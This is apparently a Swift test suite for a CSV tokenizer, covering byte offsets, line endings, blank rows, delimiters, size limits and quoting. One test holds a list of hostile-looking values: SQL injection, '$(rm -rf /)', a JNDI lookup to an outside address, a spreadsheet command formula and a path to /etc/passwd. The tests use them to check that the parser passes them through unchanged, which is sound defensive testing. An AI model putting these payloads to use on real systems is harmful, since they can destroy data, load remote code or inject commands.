import CaseCSV
import CaseInterchange
import Testing

@Suite("CSV tokenizer: syntax")
struct TokenizerSyntaxTests {
  @Test("header, quoted commas, doubled quotes and quoted CRLF, with exact positions")
  func basics() throws {
    let text = "id,name,note\r\n1,Testy McTestface,\"a, b\"\r\n2,\"Jane \"\"JJ\"\" Doe\",\"x\r\ny\"\n3,c,d"
    let t = tokenize(text)
    #expect(t.error == nil)
    #expect(t.headerNames == ["id", "name", "note"])
    let header = try #require(t.header)
    #expect(header.index == -1)
    #expect(header.byteOffset == 0 && header.byteLength == 14 && header.line == 1)
    #expect(t.values == [["1", "Testy McTestface", "a, b"], ["2", "Jane \"JJ\" Doe", "x\r\ny"], ["3", "c", "d"]])

    let r0 = t.rows[0]
    #expect(r0.index == 0 && r0.byteOffset == 14 && r0.byteLength == 27 && r0.line == 2)
    #expect(r0.fields[0] == CSVField(value: "1", byteOffset: 14, byteLength: 1, column: 1, line: 2, wasQuoted: false))
    #expect(
      r0.fields[1]
        == CSVField(value: "Testy McTestface", byteOffset: 16, byteLength: 16, column: 3, line: 2, wasQuoted: false))
    #expect(r0.fields[2] == CSVField(value: "a, b", byteOffset: 33, byteLength: 6, column: 20, line: 2, wasQuoted: true))

    let r1 = t.rows[1]
    #expect(r1.index == 1 && r1.byteOffset == 41 && r1.byteLength == 27 && r1.line == 3)
    #expect(r1.fields[1].byteOffset == 43 && r1.fields[1].byteLength == 17 && r1.fields[1].column == 3)
    #expect(r1.fields[2].byteOffset == 61 && r1.fields[2].byteLength == 6 && r1.fields[2].column == 21)

    // The quoted CRLF took a line: the last row starts on line 5 and has no terminator.
    let r2 = t.rows[2]
    #expect(r2.index == 2 && r2.byteOffset == 68 && r2.byteLength == 5 && r2.line == 5)
    #expect(r2.fields.map(\.column) == [1, 3, 5])
    expectTiling(t.events, count: text.utf8.count)
  }

  @Test("CRLF, LF and bare CR all end rows, mixed freely; inside quotes they are data")
  func lineEndings() {
    let crOnly = tokenize("a,b\r1,2\r3,4\r")
    #expect(crOnly.values == [["1", "2"], ["3", "4"]])
    #expect(crOnly.rows.map(\.line) == [2, 3])
    #expect(crOnly.rows.map(\.byteLength) == [4, 4])

    let mixed = tokenize("a,b\r\n1,2\n3,4\r5,6\r\n7,8")
    #expect(mixed.values == [["1", "2"], ["3", "4"], ["5", "6"], ["7", "8"]])
    #expect(mixed.rows.map(\.line) == [2, 3, 4, 5])
    #expect(mixed.rows.map(\.byteLength) == [4, 4, 5, 3])

    let quoted = tokenize("a,b\n\"l1\rl2\nl3\r\nl4\",x\ny,z\n")
    #expect(quoted.values == [["l1\rl2\nl3\r\nl4", "x"], ["y", "z"]])
    #expect(quoted.rows.map(\.line) == [2, 6])
    #expect(quoted.rows[0].fields[1].line == 5 && quoted.rows[0].fields[1].column == 5)

    // LF CR is two terminators: the CR ends an empty (blank) row.
    let lfcr = tokenize("a\n1\n\r2\n")
    #expect(lfcr.values == [["1"], ["2"]])
    #expect(lfcr.blanks.count == 1)
    #expect(lfcr.blanks.first?.byteOffset == 4 && lfcr.blanks.first?.line == 3)
  }

  @Test("blank rows are reported, not records; spaces-only and delimiters-only rows are records")
  func blankRows() {
    let text = "\n\r\na,b\n\n1,2\r\n\r\n  \n,\n"
    let t = tokenize(text)
    #expect(t.header?.line == 3)
    #expect(t.blanks.map(\.byteOffset) == [0, 1, 7, 13])
    #expect(t.blanks.map(\.byteLength) == [1, 2, 1, 2])
    #expect(t.blanks.map(\.line) == [1, 2, 4, 6])
    #expect(t.values == [["1", "2"], ["", ""]])
    #expect(t.rows.map(\.index) == [0, 2])
    // "  " is one field in a two-column file.
    expectDiagnostic(t.onlyDiagnostic, rule: "csv.missing-cell", line: 7, column: 3, byteOffset: 17, record: 1)
    expectTiling(t.events, count: text.utf8.count)
  }

  @Test("alternative delimiters", arguments: [(UInt8(0x3B), ";"), (0x09, "\t"), (0x7C, "|")])
  func delimiters(_ delimiter: UInt8, _ s: String) {
    let text = "id\(s)name\n1\(s)\"a\(s)b, c\"\n2\(s)x,y\n"
    let t = tokenize(text, dialect: dialect { $0.delimiter = delimiter })
    #expect(t.error == nil)
    #expect(t.headerNames == ["id", "name"])
    #expect(t.values == [["1", "a\(s)b, c"], ["2", "x,y"]])
    // With the default comma, the same text is ragged.
    let comma = tokenize(text)
    #expect(comma.rows.count + comma.rejected.count == 2)
  }

  @Test("a last row without terminator is fine; an empty last field after a delimiter counts")
  func truncatedLastRow() {
    #expect(tokenize("a,b\n1,2").values == [["1", "2"]])
    #expect(tokenize("a,b\n1,").values == [["1", ""]])
    #expect(tokenize("a,b\n1,\"\"").values == [["1", ""]])
    #expect(tokenize("a,b\n1,\"x\"").rows.first?.fields[1].wasQuoted == true)
    let t = tokenize("a,b\n1,2\n3")
    #expect(t.values == [["1", "2"]])
    expectDiagnostic(t.onlyDiagnostic, rule: "csv.missing-cell", line: 3, column: 2, byteOffset: 9, record: 1)
  }

  @Test("empty, BOM-only, blank-only and header-only inputs")
  func degenerateInputs() {
    let empty = tokenize([UInt8]())
    #expect(empty.events.isEmpty && empty.error == nil && empty.headerNames == nil)

    let bomOnly = tokenize([0xEF, 0xBB, 0xBF])
    #expect(bomOnly.events == [.bom(byteLength: 3)])

    let blankOnly = tokenize("\n\n")
    #expect(blankOnly.events.count == 2 && blankOnly.headerNames == nil)

    let headerOnly = tokenize("id,name\r\n")
    #expect(headerOnly.events.count == 1)
    #expect(headerOnly.headerNames == ["id", "name"])
    #expect(headerOnly.header?.byteLength == 9)

    let noTerminator = tokenize("id,name")
    #expect(noTerminator.headerNames == ["id", "name"] && noTerminator.events.count == 1)
  }

  @Test("without a header, the first data row defines the field count")
  func noHeader() {
    let t = tokenize("1,2,3\n4,5,6\n7,8\n", dialect: dialect { $0.hasHeader = false })
    #expect(t.headerNames == nil)
    #expect(t.values == [["1", "2", "3"], ["4", "5", "6"]])
    #expect(t.rows.map(\.index) == [0, 1])
    expectDiagnostic(t.onlyDiagnostic, rule: "csv.missing-cell", line: 3, column: 4, byteOffset: 15, record: 2)

    // A first record with a stray quote does not define the count.
    let s = tokenize("1,a\"b,3,4\n5,6\n7,8,9\n", dialect: dialect { $0.hasHeader = false })
    #expect(s.values == [["5", "6"]])
    #expect(s.rejected.map { $0.diagnostics[0].rule } == ["csv.stray-quote", "csv.extra-cell"])
  }

  @Test("a wide header (5,000 columns)")
  func wideHeader() {
    let names = (0..<5000).map { "col\($0)" }
    let values = (0..<5000).map { "v\($0)" }
    let text = names.joined(separator: ",") + "\r\n" + values.joined(separator: ",") + "\r\n"
      + values.dropLast().joined(separator: ",") + "\r\n"
    let t = tokenize(text, chunkSize: 4096)
    #expect(t.headerNames == names)
    #expect(t.values == [values])
    #expect(t.rows.first?.fields.last?.column == values.dropLast().joined(separator: ",").utf8.count + 2)
    #expect(t.rejected.first?.diagnostics.first?.rule == "csv.missing-cell")
  }

  @Test("a huge quoted field within the limits comes through whole")
  func hugeField() {
    let big = String(repeating: "Testy McTestface, \"quoted\"\r\n", count: 100_000)  // 2.8 MB
    var w = CSVWriter(options: { var o = CSVWriter.Options(); o.neutraliseFormulas = false; return o }())
    w.writeRow(["id", "note"])
    w.writeRow(["1", big])
    w.writeRow(["2", "small"])
    let t = tokenize(w.bytes, dialect: dialect { $0.maxFieldBytes = 4 << 20 }, chunkSize: 64 << 10)
    #expect(t.values.count == 2)
    #expect(t.values.first?[1] == big)
    #expect(t.rows.last?.line == 3 + 100_000)
    // With the default 1 MiB field limit, the record is rejected whole and the next row still comes through.
    let limited = tokenize(w.bytes, chunkSize: 64 << 10)
    #expect(limited.values == [["2", "small"]])
    expectDiagnostic(
      limited.onlyDiagnostic, rule: "csv.field-too-large", line: 2, column: 3, byteOffset: 11, record: 0)
    #expect(limited.onlyDiagnostic?.location.field == "note")
    expectTiling(limited.events, count: w.bytes.count)
  }

  @Test("control and bidi characters come through byte-exact (validation decides)")
  func controlAndBidi() {
    let hostile = [
      "\u{202E}gnp.exe", "a\u{2066}b\u{2069}", "bell\u{07}", "esc\u{1B}[31m", "ls\u{2028}ps\u{2029}", "nel\u{85}",
      "zw\u{200B}j\u{200D}", "del\u{7F}", "\u{FEFF}inner-bom", "tab\tin", "vt\u{0B}ff\u{0C}", "e\u{301}",
    ]
    var text = "id,value\n"
    for (i, h) in hostile.enumerated() { text += "\(i),\(h)\n" }
    let t = tokenize(text)
    #expect(t.rows.count == hostile.count)
    for (row, h) in zip(t.rows, hostile) {
      #expect(Array(row.fields[1].value.utf8) == Array(h.utf8))
    }
    // Columns count scalars: "e\u{301}" is two scalars.
    let after = tokenize("a,b,c\ne\u{301},x,y\n")
    #expect(after.rows.first?.fields.map(\.column) == [1, 4, 6])
  }

  @Test("path-like ids, SQL, shell and format strings, and duplicate ids are data, passed through byte-exact")
  func hostileButValidValues() {
    let hostile = [
      "../../etc/passwd", "C:\\Windows\\system32", "\\\\server\\share", "'; DROP TABLE cases;--", "$(rm -rf /)",
      "`id`", "%s%n%x%p", "{{7*7}}", "${jndi:ldap://198.51.100.7/a}", "=cmd|' /C calc'!A0", "R-1", "R-1",
    ]
    var w = CSVWriter(options: { var o = CSVWriter.Options(); o.neutraliseFormulas = false; return o }())
    w.writeRow(["id", "value"])
    for (i, h) in hostile.enumerated() { w.writeRow([h, "\(i)"]) }
    let t = tokenize(w.bytes)
    #expect(t.rejected.isEmpty)
    #expect(t.values.map { $0[0] } == hostile)
    #expect(t.values.map { $0[1] } == hostile.indices.map { "\($0)" })
  }

  @Test("quotes: an empty quoted field, a quoted quote, a quoted delimiter-only value")
  func quoting() {
    let t = tokenize("a,b,c\n\"\",\"\"\"\",\",\"\n\"\"\"\"\"\",x,\"a\"\"\"\n")
    #expect(t.values == [["", "\"", ","], ["\"\"", "x", "a\""]])
    #expect(t.rows[0].fields.map(\.wasQuoted) == [true, true, true])
  }
}
